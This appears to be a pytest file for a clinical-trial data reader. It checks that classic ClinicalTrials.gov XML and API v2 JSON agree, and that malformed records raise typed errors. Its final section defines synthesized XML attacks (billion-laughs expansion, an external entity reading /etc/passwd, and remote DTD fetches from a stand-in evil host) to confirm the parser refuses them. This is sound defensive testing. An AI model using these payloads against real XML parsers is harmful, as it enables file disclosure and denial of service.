"""Classic ClinicalTrials.gov XML (``<clinical_study>``, the AllPublicXML layout) on real records.

``data/samples/classic_xml.zip`` holds the 12 real XML studies of ``../shared/data/raw`` that
raw/ also holds as API v2 JSON (``classic_xml_same_trials.json.zip``): a trial read from
either form agrees on every field both carry. Unsafe XML (entity expansion, external
entities) is an attack, not a trial record, so those documents are synthesized here.
"""

from __future__ import annotations

import gzip
import io
import re
import time
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from simtrials import schema
from simtrials.datasets import sample_path
from simtrials.errors import TrialFormatError
from simtrials.io import TrialFormatWarning, read_ctgov

SHARED_RAW = Path(__file__).resolve().parents[2] / "shared" / "data" / "raw"
needs_shared = pytest.mark.skipif(
    not SHARED_RAW.is_dir(), reason="needs ../shared/data/raw (the raw source files)"
)
ALL_PUBLIC_XML = SHARED_RAW / "reesewang25-enrollment" / "AllPublicXML.zip"

# Free text the classic XML re-wraps at ~100 characters (and the JSON writes as markdown):
# the same words, not the same line breaks and bullets.
REWRAPPED = {
    "brief_summary",
    "detailed_description",
    "eligibility_criteria",
    "intervention_descriptions",
    "arm_group_descriptions",
}
# Derived by the registry at download time (MeSH terms are re-derived by newer algorithms),
# so a 2023 XML snapshot and a later JSON download differ without any change to the record.
DERIVED = {"condition_mesh", "intervention_mesh"}


@pytest.fixture(scope="module")
def members() -> dict[str, bytes]:
    with zipfile.ZipFile(sample_path("classic_xml.zip")) as zf:
        return {n: zf.read(n) for n in zf.namelist()}


@pytest.fixture(scope="module")
def from_xml() -> pd.DataFrame:
    return read_ctgov(sample_path("classic_xml.zip"))


@pytest.fixture(scope="module")
def from_json() -> pd.DataFrame:
    return read_ctgov(sample_path("classic_xml_same_trials.json.zip"))


def _words(value):
    if isinstance(value, list):
        return [re.findall(r"\w+", v.lower()) for v in value]
    return re.findall(r"\w+", value.lower())


def _carried(value) -> bool:
    return bool(value) if isinstance(value, list) else not pd.isna(value)


# ---------------------------------------------------------------- layouts


def test_all_public_xml_zip_layout_reads_one_row_per_member(members, from_xml):
    assert all(re.fullmatch(r"NCT\d{4}xxxx/NCT\d{8}\.xml", n) for n in members)
    assert from_xml["nct_id"].tolist() == [Path(n).stem for n in members]
    assert from_xml["source"].str.contains(r"classic_xml\.zip!NCT\d{4}xxxx/NCT\d{8}\.xml").all()
    assert list(from_xml.columns) == list(schema.COLUMN_NAMES)
    assert from_xml.dtypes.astype(str).to_dict() == schema.dtypes()


def test_one_file_a_folder_and_gz_read_the_same(members, from_xml, tmp_path):
    expected = from_xml.drop(columns="source")
    for name, data in members.items():
        (tmp_path / "folder" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "folder" / name).write_bytes(data)
    folder = read_ctgov(tmp_path / "folder")
    pd.testing.assert_frame_equal(folder.drop(columns="source"), expected)
    first = next(iter(members))
    one = read_ctgov(tmp_path / "folder" / first)
    pd.testing.assert_frame_equal(one.drop(columns="source"), expected.iloc[:1])
    gz = tmp_path / "study.xml.gz"
    gz.write_bytes(gzip.compress(members[first]))
    pd.testing.assert_frame_equal(read_ctgov(gz).drop(columns="source"), expected.iloc[:1])
    got = read_ctgov(members[first])  # bytes; the format is found from the content
    pd.testing.assert_frame_equal(got.drop(columns="source"), expected.iloc[:1])


def test_a_folder_mixing_formats_reads_every_file(members, tmp_path):
    (tmp_path / "a.xml").write_bytes(next(iter(members.values())))
    (tmp_path / "b.json").write_bytes(sample_path("ctgov_studies.json").read_bytes())
    (tmp_path / "c.csv").write_bytes(sample_path("urology.csv").read_bytes())
    (tmp_path / ".DS_Store").write_bytes(b"\x00\x00\x00\x01Bud1")  # hidden files are skipped
    got = read_ctgov(tmp_path)
    assert len(got) == 1 + 10 + 25
    assert got["source"].str.endswith(("a.xml", "b.json", "c.csv")).all()


# ---------------------------------------------------------------- XML vs JSON


def test_same_trial_from_xml_and_json_agrees_on_every_field_both_carry(from_xml, from_json):
    x, j = from_xml.set_index("nct_id"), from_json.set_index("nct_id")
    assert set(x.index) == set(j.index) and len(x) == 12
    # two records were updated after the 2023 XML snapshot: compare the ten that were not
    same = [n for n in x.index if x.loc[n, "last_update"] == j.loc[n, "last_update"]]
    assert len(same) == 10
    compared: dict[str, int] = {}
    for nct in same:
        for col in schema.COLUMN_NAMES:
            if col in ("nct_id", "source") or col in DERIVED:
                continue
            a, b = x.loc[nct, col], j.loc[nct, col]
            if not (_carried(a) and _carried(b)):
                continue
            if col in REWRAPPED:
                assert _words(a) == _words(b), (nct, col)
            else:
                assert a == b, (nct, col, a, b)
            compared[col] = compared.get(col, 0) + 1
    assert sum(compared.values()) > 250
    for col in ("title", "conditions", "phases", "study_type", "overall_status", "enrollment",
                "enrollment_type", "start_date", "primary_completion_date", "completion_date",
                "sponsor", "sponsor_class", "sex", "healthy_volunteers", "minimum_age_years",
                "eligibility_criteria", "primary_outcomes", "secondary_outcomes", "countries",
                "location_count", "has_results", "arm_group_labels", "arm_group_types",
                "interventions", "intervention_types", "allocation", "intervention_model",
                "masking", "primary_purpose"):  # fmt: skip
        assert compared.get(col, 0) >= 2, col


def test_xml_fields_the_json_lacks_are_missing_not_guessed(from_xml):
    # the classic XML has no standard age groups (the registry derives them for API v2)
    assert (from_xml["std_ages"].map(len) == 0).all()


def test_xml_coded_values_become_api_v2_codes(members, from_xml):
    row = from_xml.set_index("nct_id").loc["NCT00007696"]
    raw = members["NCT0000xxxx/NCT00007696.xml"].decode()
    assert '<enrollment type="Anticipated">' in raw and row["enrollment_type"] == "ESTIMATED"
    assert "<agency_class>U.S. Fed</agency_class>" in raw and row["sponsor_class"] == "FED"
    codes = {
        "allocation": {"RANDOMIZED", "NON_RANDOMIZED", "NA"},
        "intervention_model": {"PARALLEL", "SINGLE_GROUP", "CROSSOVER", "FACTORIAL", "SEQUENTIAL"},
        "masking": {"NONE", "SINGLE", "DOUBLE", "TRIPLE", "QUADRUPLE"},
        "sex": {"ALL", "FEMALE", "MALE"},
    }
    for col, allowed in codes.items():
        assert set(from_xml[col].dropna()) <= allowed, col
    assert set(from_xml["phases"].explode().dropna()) <= {
        "EARLY_PHASE1", "PHASE1", "PHASE2", "PHASE3", "PHASE4", "NA"}  # fmt: skip


@needs_shared
def test_results_why_stopped_and_locations_of_the_whole_bulk_download():
    """Field by field against the XML text, on all 6,785 studies of the real AllPublicXML.zip."""
    got = read_ctgov(ALL_PUBLIC_XML, show_progress=False).set_index("nct_id")
    assert len(got) == 6785
    results, stopped, sites = set(), {}, {}
    with zipfile.ZipFile(ALL_PUBLIC_XML) as zf:
        for name in zf.namelist():
            if not name.endswith(".xml"):
                continue
            root = ET.fromstring(zf.read(name))  # the stdlib parser, on these real files
            nct = Path(name).stem
            if root.find("clinical_results") is not None:
                results.add(nct)
            why = (root.findtext("why_stopped") or "").replace("\r\n", "\n").strip()
            if why:
                stopped[nct] = why
            sites[nct] = len(root.findall("location"))
    assert set(got.index[got["has_results"]]) == results and len(results) == 440
    assert got["why_stopped"].dropna().to_dict() == stopped and len(stopped) == 319
    counts = got["location_count"].fillna(0).astype(int).to_dict()
    assert counts == sites
    assert got["has_results"].notna().all()


# ---------------------------------------------------------------- errors


@pytest.mark.parametrize(
    ("tag", "bad", "field", "match"),
    [
        ("phase", "Phase 9", "clinical_study/phase", "unknown phase"),
        ("start_date", "sometime", "clinical_study/start_date", "expected a date"),
        ("enrollment", "many", "clinical_study/enrollment", "expected a whole number"),
        ("minimum_age", "old", "clinical_study/eligibility/minimum_age", "expected an age"),
        ("healthy_volunteers", "Maybe", "clinical_study/eligibility/healthy_volunteers",
         "Accepts Healthy Volunteers"),
    ],
)  # fmt: skip
def test_bad_value_names_the_member_the_nct_id_and_the_element(members, tag, bad, field, match):
    name = "NCT0049xxxx/NCT00492635.xml"  # a real study with all of these elements
    text = members[name].decode("utf-8")
    changed, n = re.subn(rf"(<{tag}[^>]*>)[^<]*(</{tag}>)", rf"\g<1>{bad}\g<2>", text, count=1)
    assert n == 1, tag
    data = _zip_with(members, name, changed.encode("utf-8"))
    with pytest.raises(TrialFormatError, match=match) as info:
        read_ctgov(data)
    err = info.value
    assert err.source == f"<bytes>!{name}" and err.position == 0
    assert err.nct_id == "NCT00492635" and err.field == field
    assert f"field {field!r}" in str(err) and "NCT00492635" in str(err)
    with pytest.warns(TrialFormatWarning, match="skipped 1 bad record"):
        rest = read_ctgov(data, errors="skip")
    assert len(rest) == len(members) - 1


def _zip_with(members: dict[str, bytes], name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for n, d in members.items():
            zf.writestr(n, data if n == name else d)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("damage", "match", "field"),
    [
        (lambda t: t.replace("<nct_id>", "<nct_id>X", 1), "invalid NCT ID", "clinical_study/id_info/nct_id"),
        (lambda t: re.sub(r"<nct_id>.*?</nct_id>", "", t, count=1), "no NCT ID", "clinical_study/id_info/nct_id"),
        (lambda t: t.replace("<clinical_study>", "<study>").replace("</clinical_study>", "</study>"),
         "expected a <clinical_study> root", "study"),
        (lambda t: t[: len(t) // 2], "invalid XML at line", None),
    ],
    ids=["bad-id", "no-id", "other-root", "truncated"],
)  # fmt: skip
def test_unreadable_study_is_a_typed_error_naming_the_file(members, tmp_path, damage, match, field):
    name = list(members)[0]
    path = tmp_path / "NCT00000410.xml"
    path.write_text(damage(members[name].decode("utf-8")), encoding="utf-8")
    with pytest.raises(TrialFormatError, match=match) as info:
        read_ctgov(path)
    assert info.value.source == str(path) and info.value.field == field


# ---------------------------------------------------------------- unsafe XML (synthesized attacks)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE clinical_study [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<clinical_study><id_info><nct_id>NCT00000410</nct_id></id_info><brief_title>&lol9;</brief_title>
</clinical_study>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE clinical_study [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<clinical_study><id_info><nct_id>NCT00000410</nct_id></id_info><brief_title>&secret;</brief_title>
</clinical_study>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE clinical_study SYSTEM "http://example.invalid/evil.dtd">
<clinical_study><id_info><nct_id>NCT00000410</nct_id></id_info></clinical_study>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE clinical_study [<!ENTITY % remote SYSTEM "http://example.invalid/x.dtd"> %remote;]>
<clinical_study><id_info><nct_id>NCT00000410</nct_id></id_info></clinical_study>"""


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_entity_expansion_and_external_entities_are_refused_quickly(doc, members, tmp_path):
    start = time.perf_counter()
    with pytest.raises(TrialFormatError, match="refused") as info:
        read_ctgov(doc)
    assert time.perf_counter() - start < 1.0
    assert "DTD" in str(info.value) or "entit" in str(info.value)
    # inside the bulk-download zip, the error names the member
    data = _zip_with({**members, "NCT0000xxxx/NCT00000001.xml": doc}, "", b"")  # doc appended
    with pytest.raises(TrialFormatError, match="refused") as info:
        read_ctgov(data)
    assert info.value.source == "<bytes>!NCT0000xxxx/NCT00000001.xml"


@pytest.mark.parametrize(
    "page", [b"<!DOCTYPE html><html><body>503 Service Unavailable</body></html>", b"<html><p>"]
)
def test_an_html_page_is_named_as_such_not_parsed_as_a_study(page, tmp_path):
    path = tmp_path / "ctg-studies.json"  # a saved error page under a data file's name
    path.write_bytes(page)
    with pytest.raises(TrialFormatError, match="an HTML page") as info:
        read_ctgov(path)
    assert info.value.source == str(path)
